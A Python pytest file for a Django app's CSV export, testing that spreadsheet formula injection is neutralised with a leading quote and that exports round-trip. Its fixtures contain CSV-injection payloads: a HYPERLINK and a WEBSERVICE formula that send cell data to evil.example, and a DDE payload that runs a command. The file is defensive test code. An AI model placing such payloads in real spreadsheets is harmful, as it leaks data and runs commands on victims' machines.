"""No CSV FlexDash writes hands a spreadsheet a formula: ids, prompts, answers and
errors that start with = + - @, a tab or a carriage return are marked as text with
a leading `'` (OWASP's CSV injection advice), the unfinished-lines CSV uploads again
to exactly the same ids and prompts, and the JSONL downloads stay as they were."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse

from jobs import formats
from jobs.formats.spreadsheet_cells import FORMULA_STARTS, neutralise, restore
from jobs.models import Job, Run, State
from tests.support import MODEL, api_client, as_user, make_run, run_from_file

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("uploads_in_tmp")]

# (id, prompt) lines a shared data set could hold; every one starts a formula somewhere.
LINES = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"Open")', "=1+1"),
    ("-2+3", "-2"),
    ("@SUM(1+1)", "@SUM(A1:A9)"),
    ("+1", "\tindented with a tab"),
    ("-2", "\rafter a carriage return"),
    ("plain", "a plain prompt, with a comma"),
]
ANSWER = '=WEBSERVICE("http://evil.example/"&A2)'
ERROR = "-cmd|' /C calc'!A0"


@pytest.fixture
def run(ada) -> Run:
    """A CSV run of LINES: the first two answered with a formula, the third failed
    with one, the rest still queued."""
    run = make_run(ada, LINES, fmt="csv")
    first, second, third, *_ = run.jobs.order_by("id")
    Job.objects.filter(pk__in=[first.pk, second.pk]).update(
        state=State.SUCCEEDED, result_text=ANSWER
    )
    Job.objects.filter(pk=third.pk).update(state=State.FAILED, last_error=ERROR)
    return run


def body(response) -> bytes:
    assert response.status_code == 200
    if isinstance(response, StreamingHttpResponse):
        return b"".join(response.streaming_content)
    return response.content


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def computed_by_a_spreadsheet(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def test_no_csv_cell_reaches_a_spreadsheet_as_a_formula(client, ada, run):
    # The finding: what is stored (and what a JSON download carries) starts formulas.
    stored = list(run.jobs.order_by("id").values_list("custom_id", "input_text"))
    assert stored == LINES
    assert all(computed_by_a_spreadsheet(cell) for line in LINES[:5] for cell in line)
    assert computed_by_a_spreadsheet(ANSWER) and computed_by_a_spreadsheet(ERROR)

    api = api_client(ada)
    page = as_user(client, ada)
    results = cells(body(page.get(f"/runs/{run.pk}/results.csv")))
    assert cells(body(api.get(f"/api/batches/{run.pk}/results.csv"))) == results
    unfinished = cells(body(page.get(f"/runs/{run.pk}/unfinished/")))

    for table in (results, unfinished):
        assert not [cell for row in table for cell in row if computed_by_a_spreadsheet(cell)]
    ids = [row[0] for row in results[1:]]
    assert ids == [
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Open")',
        "'-2+3",
        "'@SUM(1+1)",
        "'+1",
        "'-2",  # a negative number is text here, and neutralised like any other cell
        "plain",
    ]
    output = results[0].index("output")
    assert [row[output] for row in results[1:3]] == ["'" + ANSWER] * 2
    prompts = [row[results[0].index("prompt")] for row in results[1:]]
    assert prompts == [neutralise(prompt) for _, prompt in LINES]
    assert prompts[0] == "'=1+1"
    assert [row[:2] for row in unfinished[1:]] == [
        [neutralise(custom_id), neutralise(prompt)] for custom_id, prompt in LINES[2:]
    ]
    assert unfinished[1][1] == "'@SUM(A1:A9)"
    assert unfinished[2][1] == "'\tindented with a tab"


def test_the_unfinished_csv_uploads_again_to_exactly_the_same_ids_and_prompts(client, ada, run):
    content = body(as_user(client, ada).get(f"/runs/{run.pk}/unfinished/"))

    again = run_from_file(ada, content, "unfinished.csv")

    assert list(again.jobs.order_by("id").values_list("custom_id", "input_text")) == LINES[2:]


def test_json_lines_downloads_keep_formula_text_exactly(client, ada, run):
    page = as_user(client, ada)
    results = body(page.get(f"/runs/{run.pk}/results.jsonl"))

    first, _, third = map(json.loads, results.decode().splitlines())
    assert (first["id"], first["output"]) == (LINES[0][0], ANSWER)
    assert (third["id"], third["error"]) == (LINES[2][0], ERROR)
    assert b"'=" not in results and b"'-" not in results

    jsonl = make_run(ada, LINES)
    unfinished = body(page.get(f"/runs/{jsonl.pk}/unfinished/"))
    assert [json.loads(line)["prompt"] for line in unfinished.decode().splitlines()] == [
        prompt for _, prompt in LINES
    ]


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-2", "@A1", "\tx", "\rx", "'=x", "''-x", "'", "'x", "x=1", "", " =1"],
)
def test_the_spreadsheet_mark_comes_off_exactly_as_it_went_on(cell):
    written = neutralise(cell)

    assert not computed_by_a_spreadsheet(written)
    assert restore(written) == cell


def test_a_prompt_that_starts_with_its_own_mark_keeps_it_through_a_resubmit_file():
    prompts = ["'=kept as typed", "''-two marks", "'plain"]
    rows = [_failed_row(f"id{n}", {"prompt": prompt}) for n, prompt in enumerate(prompts, 1)]
    content = "".join(formats.export_resubmit("csv", rows)).encode()

    assert [line.prompt for line in formats.parse(io.BytesIO(content), "csv")] == prompts
    # Uploaded again, and written again from the lines as uploaded: the same prompts.
    again = [_failed_row(line.custom_id, source=line.source)
             for line in formats.parse(io.BytesIO(content), "csv")]  # fmt: skip
    content = "".join(formats.export_resubmit("csv", again)).encode()
    assert [line.prompt for line in formats.parse(io.BytesIO(content), "csv")] == prompts


def _failed_row(custom_id: str, legacy_fields=None, source: str = "") -> formats.ResultRow:
    return formats.ResultRow(
        custom_id=custom_id, prompt="", state="failed", attempts=1, http_503=0, http_429=0,
        input_tokens=0, output_tokens=0, thought_tokens=0, cost_usd="", output_text="",
        error="", model=MODEL, response_id="", finished=True, succeeded=False,
        source=source, legacy_fields=legacy_fields or {},
    )  # fmt: skip


def test_a_hand_written_csv_that_marks_a_formula_as_text_reads_as_the_formula_itself(ada):
    content = b"id,prompt\n'-7,'=SUM(A1:A2)\n'x,'plain\n"

    run = run_from_file(ada, content, "mine.csv")

    assert list(run.jobs.order_by("id").values_list("custom_id", "input_text")) == [
        ("-7", "=SUM(A1:A2)"),
        ("'x", "'plain"),
    ]
